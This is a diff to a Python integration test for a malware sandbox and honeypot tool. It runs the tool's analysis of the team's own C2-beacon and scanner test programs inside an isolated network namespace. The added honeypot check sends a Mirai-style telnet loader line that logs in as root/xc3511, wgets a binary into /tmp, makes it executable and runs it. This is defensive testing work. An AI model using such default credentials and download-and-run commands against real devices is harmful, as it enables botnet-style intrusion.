@@ -1,13 +1,14 @@
 #!/usr/bin/env python3
 """`kansoku sandbox analyze` and `sandbox triage` on the team's test programs (issue 5).
 
-The whole run happens inside an outer network namespace with only loopback (`unshare -n`), so even
-a broken jail could not send a packet anywhere. Checks:
+The whole test re-executes itself inside an outer network namespace with only loopback (`unshare -n`),
+so even a broken jail could not send a packet anywhere. Checks:
 - c2_beacon (x86-64 under ptrace, ARM under qemu): a sandbox.report event; the DNS query to the
   hard-coded resolver 192.0.2.53 and the C2 hello are recorded;
 - syn_scanner: the scan signature with the Mirai fingerprint on ports 23/2323;
 - escape: a listener on the outer namespace's loopback receives nothing; the host files are unchanged;
 - triage of every x86-64/ARM/MIPS program: hashes, arch, and YARA matches of our test-sample rules;
+- honeypot -> sandbox: a telnet loader's download is analysed under the attacker's name and argument;
 - bad input: a missing file gives one line and exit 1.
 """
 
@@ -19,6 +20,7 @@ import threading
 from pathlib import Path
 
 sys.path.insert(0, str(Path(__file__).resolve().parent))
+import honeypot_lab as hl  # noqa: E402
 import integ_common as ic  # noqa: E402
 
 
@@ -44,11 +46,46 @@ def signature(event: dict, sig_id: str):
     return None
 
 
+def honeypot_to_sandbox(binary: str, bins: Path, checks: ic.Checks) -> None:
+    """A telnet loader fetches c2_beacon from a loopback server and runs it as `./.c 2`: the honeypot
+    stores it and the sandbox analyses it under that name and argument (a sandbox.report for its SHA-256)."""
+    payload = (bins / "x86_64" / "c2_beacon").read_bytes()
+    work = ic.make_temp_dir("kansoku-hp-sandbox-")
+    lab = hl.HoneypotLab(binary, work, {"sandbox": {"enabled": True, "timeout_s": 4}})
+    server = hl.SampleServer({"/bins/x.x86": payload})
+    try:
+        lab.start()
+        client = hl.TelnetClient("127.0.0.1", lab.ports["telnet"])
+        client.login("root", "xc3511")
+        client.line(f"cd /tmp; wget http://127.0.0.1:{server.port}/bins/x.x86 -O .c; chmod 777 .c; ./.c 2")
+        client.read_until(hl.PROMPT)
+        client.close()
+        sha = hl.sha256_of(payload)
+        events = lab.wait_for_events(
+            lambda ev: any(e.get("sha256") == sha for e in ic.of_type(ev, "sandbox.report")), 40)
+    finally:
+        server.stop()
+        lab.stop()
+    reports = [e for e in ic.of_type(events, "sandbox.report") if e.get("sha256") == sha]
+    checks.check(len(reports) == 1, "honeypot -> sandbox: the downloaded sample gets one sandbox.report",
+                 lab.stderr_text[-1000:])
+    dns = reports[0].get("network", {}).get("dns", []) if reports else []
+    checks.check(any(q.get("resolver") == "192.0.2.53" for q in dns),
+                 "honeypot -> sandbox: the run saw the sample's DNS query (it ran with the attacker's argument)")
+    ic.remove_temp_dir(work)
+
+
 def main() -> int:
     binary = ic.kansoku_binary()
     ic.exit_on_signals()
     if os.geteuid() != 0:
         ic.skip("sandbox analysis needs root (user, PID, mount and network namespaces)")
+    if os.environ.get("KANSOKU_OUTER_NETNS") != "1":
+        # The safety net: the whole test (honeypot, loopback servers, every analysis) runs in a network
+        # namespace of its own with only loopback, so even a broken jail could not reach any network.
+        os.environ["KANSOKU_OUTER_NETNS"] = "1"
+        os.execvp("unshare", ["unshare", "-n", "sh", "-c", 'ip link set lo up && exec "$@"', "sh",
+                              sys.executable, *sys.argv])
     bins = samples_dir(binary)
     if not (bins / "x86_64" / "c2_beacon").exists():
         ic.skip(f"test programs not built in {bins} (target kansoku_test_samples)")
@@ -128,6 +165,8 @@ def main() -> int:
     with_yara = [r for r in reports if r.get("yara")]
     checks.check(len(with_yara) >= len(programs) // 2, f"triage: YARA rules match the test programs "
                  f"({len(with_yara)} of {len(programs)})")
+
+    honeypot_to_sandbox(binary, bins, checks)
 
     missing = ic.run([binary, "sandbox", "analyze", "/nonexistent/sample"], timeout=30)
     checks.check(missing.returncode == 1 and len(missing.stderr.strip().splitlines()) == 1,
